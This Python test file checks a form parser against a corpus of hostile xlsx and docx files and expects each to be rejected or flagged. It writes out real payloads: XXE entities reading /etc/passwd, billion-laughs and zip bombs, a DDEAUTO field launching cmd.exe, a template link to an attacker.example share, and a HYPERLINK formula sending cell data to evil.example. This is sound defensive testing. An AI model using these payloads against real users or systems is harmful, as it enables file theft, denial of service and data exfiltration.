"""The hostile corpus: each file gets its expected clear outcome under a memory and a time cap.

Every file is parsed in a child process limited to 1.5 GiB of address space
and 60 s of CPU (``isolated.py``); the children run side by side, once per
session. An outcome is either a rejection with the expected one-line message
or a parse result with the expected problem; anything else (another
exception, a crash, the cap or the timeout) fails.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.hostile import corpus
from tests.hostile.corpus import KEY, Entry
from tests.hostile.isolated import Outcome, cli_isolated, parse_isolated
from tests.support.zipparts import parts_of, with_parts


def _xlsx_with(changes: dict[str, bytes | None], fmt: str = "xlsx") -> bytes:
    return with_parts(corpus.real_form(fmt), changes)


def _inject(fmt: str, part: str, marker: bytes, payload: bytes) -> bytes:
    data = corpus.real_form(fmt)
    body = parts_of(data)[part]
    assert marker in body, (part, marker)
    return with_parts(data, {part: body.replace(marker, payload, 1)})


def _xxe() -> bytes:
    doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    data = corpus.real_form("xlsx")
    body = parts_of(data)["xl/workbook.xml"]
    head, sep, rest = body.partition(b"?>")
    body = head + sep + doctype + rest if sep else doctype + body
    return with_parts(data, {"xl/workbook.xml": body})


def _xxe_utf16() -> bytes:
    data = corpus.real_form("docx")
    custom = parts_of(data)["docProps/custom.xml"].decode()
    custom = custom.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    if "<?xml" not in custom:
        custom = '<?xml version="1.0" encoding="UTF-16"?>' + custom
    custom = custom.replace("?>", '?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
    return with_parts(data, {"docProps/custom.xml": custom.encode("utf-16")})


def _billion_laughs() -> bytes:
    return _xlsx_with({"xl/worksheets/sheet1.xml": corpus.billion_laughs()})


def _declared_bomb() -> bytes:
    parts = parts_of(corpus.real_form("xlsx"))
    entries = [Entry(n, d) for n, d in parts.items()]
    entries.append(Entry("xl/media/bomb.xml", b"<a/>", declared_size=3_900_000_000))
    return corpus.zip_bytes(entries)


def _ratio_bomb() -> bytes:
    return _xlsx_with({"xl/bomb.xml": b"<a>" + b"\0" * (40 * 1024 * 1024) + b"</a>"})


def _lying_header() -> bytes:
    parts = parts_of(corpus.real_form("xlsx"))
    entries = [Entry(n, d) for n, d in parts.items()]
    big = next(e for e in entries if e.name == "xl/worksheets/sheet4.xml")
    big.declared_size = 100
    return corpus.zip_bytes(entries)


def _macro_renamed() -> bytes:
    data = corpus.real_form("xlsx")
    types = parts_of(data)["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    return with_parts(
        data, {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}
    )


def _encrypted() -> bytes:
    return corpus.real_encrypted(corpus.real_form("xlsx")) or corpus.fake_encrypted_ole()


def _external_link() -> bytes:
    data = corpus.real_form("docx")
    settings_rels = corpus.relationships(
        [("attachedTemplate", "\\\\attacker.example\\share\\t.dotm", "External")]
    )
    return with_parts(data, {"word/_rels/settings.xml.rels": settings_rels})


def _dde_field() -> bytes:
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO '
        b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    )
    return _inject("docx", "word/document.xml", b"<w:sectPr", field)


def _merge_bomb() -> bytes:
    return _inject(
        "xlsx",
        "xl/worksheets/sheet4.xml",
        b"</sheetData>",
        b'</sheetData><mergeCells count="1"><mergeCell ref="A1000:XFD1048576"/></mergeCells>',
    )


def _far_cell() -> bytes:
    cell = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return _inject("xlsx", "xl/worksheets/sheet4.xml", b"</sheetData>", cell + b"</sheetData>")


def _cell_off_the_grid() -> bytes:
    # Column XFE is one past Excel's last.
    return _inject("xlsx", "xl/worksheets/sheet2.xml", b'<c r="A2"', b'<c r="XFE2"')


def _deep() -> bytes:
    return _inject("docx", "word/document.xml", b"<w:body>", b"<w:body>" + b"<w:p>" * 100_000)


def _formula_injection() -> bytes:
    return corpus.fill_xlsx(
        corpus.real_form("xlsx"),
        {
            "respondent_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "respondent_title": "@SUM(1+1)",
            "respondent_institution": "+1",
            "respondent_email": "-1",
        },
    )


def _formula_cells() -> bytes:
    return corpus.fill_xlsx(
        corpus.real_form("xlsx"),
        {
            "respondent_name": '=HYPERLINK("http://evil.example","x")',
            "wg15_x_commitment_years": "=1+1",
        },
        formulas=True,
    )


def _date_overflow() -> bytes:
    return corpus.fill_xlsx(corpus.real_form("xlsx"), {"reply_date": "99999999999-01-01"})


def _tampered(fmt: str) -> Callable[[], bytes]:
    return lambda: corpus.set_meta_everywhere(corpus.real_form(fmt), "form_id", "f0000000000000000")


def _foreign(fmt: str) -> Callable[[], bytes]:
    return lambda: corpus.set_meta_everywhere(corpus.real_form(fmt, country="MX"), "country", "BR")


def _unknown_version() -> bytes:
    return corpus.set_meta_everywhere(corpus.real_form("xlsx"), "version", "9.9")


@dataclass(frozen=True)
class Case:
    build: Callable[[], bytes]
    outcome: str
    expected: str
    """A part of the rejection message, or the code of one problem."""
    severity: str = "error"
    key: bytes | None = KEY


CASES: dict[str, Case] = {
    "clean-xlsx": Case(lambda: corpus.real_form("xlsx"), "parsed", ""),
    "clean-docx": Case(lambda: corpus.real_form("docx"), "parsed", ""),
    "xxe": Case(_xxe, "rejected", "declares a DTD or entities"),
    "xxe-utf16": Case(_xxe_utf16, "rejected", "declares a DTD or entities"),
    "billion-laughs": Case(_billion_laughs, "rejected", "declares a DTD or entities"),
    "zip-bomb-declared": Case(_declared_bomb, "rejected", "zip bomb"),
    "zip-bomb-ratio": Case(_ratio_bomb, "rejected", "zip bomb"),
    "lying-header": Case(_lying_header, "rejected", "damaged"),
    "macro-renamed-xlsx": Case(_macro_renamed, "rejected", "macro"),
    "encrypted": Case(_encrypted, "rejected", "password-protected"),
    "truncated": Case(lambda: corpus.real_form("docx")[:-2000], "rejected", "damaged"),
    "merge-bomb": Case(_merge_bomb, "rejected", "cell ranges"),
    "far-cell": Case(_far_cell, "rejected", "rows by 16384 columns"),
    "deep-nesting": Case(_deep, "rejected", "levels deep"),
    "cell-off-the-grid": Case(_cell_off_the_grid, "rejected", "not a cell of a worksheet"),
    "unknown-version": Case(_unknown_version, "rejected", "known questionnaire version"),
    "external-link": Case(_external_link, "parsed", "external_resource", "warning"),
    "dde-field": Case(_dde_field, "parsed", "active_field", "warning"),
    "formula-injection": Case(_formula_injection, "parsed", ""),
    "date-overflow": Case(_date_overflow, "parsed", "not_a_date"),
    "formula-cells": Case(_formula_cells, "parsed", "formula_not_answer"),
    "tampered-signature-xlsx": Case(_tampered("xlsx"), "parsed", "signature_invalid"),
    "tampered-signature-docx": Case(_tampered("docx"), "parsed", "signature_invalid"),
    "foreign-country-xlsx": Case(_foreign("xlsx"), "parsed", "signature_invalid"),
    "foreign-country-docx": Case(_foreign("docx"), "parsed", "signature_invalid"),
    "unchecked-signature": Case(
        lambda: corpus.real_form("xlsx"), "parsed", "signature_unchecked", "warning", None
    ),
}


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Outcome]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    paths = {}
    for name, case in CASES.items():
        paths[name] = folder / f"{name}.{'docx' if 'docx' in name else 'xlsx'}"
        paths[name].write_bytes(case.build())
    with ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
        futures = {
            name: pool.submit(parse_isolated, paths[name], CASES[name].key) for name in CASES
        }
        return {name: future.result() for name, future in futures.items()}


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_file_gets_its_clear_outcome(name: str, outcomes: dict[str, Outcome]) -> None:
    case, got = CASES[name], outcomes[name]
    assert got.kind == case.outcome, (got.kind, got.message, got.stderr)
    if got.kind == "rejected":
        assert case.expected in got.message
        assert "\n" not in got.message
        assert "Traceback" not in got.stderr
    elif case.expected:
        assert case.expected in got.codes(case.severity), got.codes()
    else:
        assert got.codes("error") == []


def test_formula_like_answers_are_kept_as_text(outcomes: dict[str, Outcome]) -> None:
    answers = outcomes["formula-injection"].result["answers"]
    assert answers["respondent_name"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert answers["respondent_title"] == "@SUM(1+1)"
    assert (answers["respondent_institution"], answers["respondent_email"]) == ("+1", "-1")


def test_formulas_are_never_answers(outcomes: dict[str, Outcome]) -> None:
    got = outcomes["formula-cells"]
    assert got.result["answers"]["respondent_name"] is None
    assert got.result["answers"]["wg15_x_commitment_years"] is None
    assert got.codes("error").count("formula_not_answer") == 2


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_signature_states(fmt: str, outcomes: dict[str, Outcome]) -> None:
    assert outcomes[f"clean-{fmt}"].result["form"]["signature"] == "valid"
    assert outcomes[f"tampered-signature-{fmt}"].result["form"]["signature"] == "invalid"
    foreign = outcomes[f"foreign-country-{fmt}"].result["form"]
    assert (foreign["signature"], foreign["country"]) == ("invalid", "BR")
    assert outcomes["unchecked-signature"].result["form"]["signature"] == "absent"


CLI_CASES = {
    "clean-xlsx": 0,
    "tampered-signature-docx": 1,
    "foreign-country-xlsx": 1,
    "xxe": 2,
    "zip-bomb-declared": 2,
    "encrypted": 2,
    "macro-renamed-xlsx": 2,
    "truncated": 2,
    "cell-off-the-grid": 2,
}


@pytest.mark.parametrize(("name", "status"), CLI_CASES.items())
def test_parse_command_exit_status_and_one_line(name: str, status: int, tmp_path: Path) -> None:
    """The CLI contract: 0 clean, 1 errors, 2 rejected with one line on stderr, no traceback."""
    path = tmp_path / f"{name}.{'docx' if 'docx' in name else 'xlsx'}"
    path.write_bytes(CASES[name].build())
    key_file = tmp_path / "key"
    key_file.write_bytes(KEY)
    done = cli_isolated(["parse", str(path), "--json", "--key-file", str(key_file)])
    assert done.returncode == status, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    if status == 2:
        assert len(done.stderr.strip().splitlines()) == 1
        assert CASES[name].expected in done.stderr
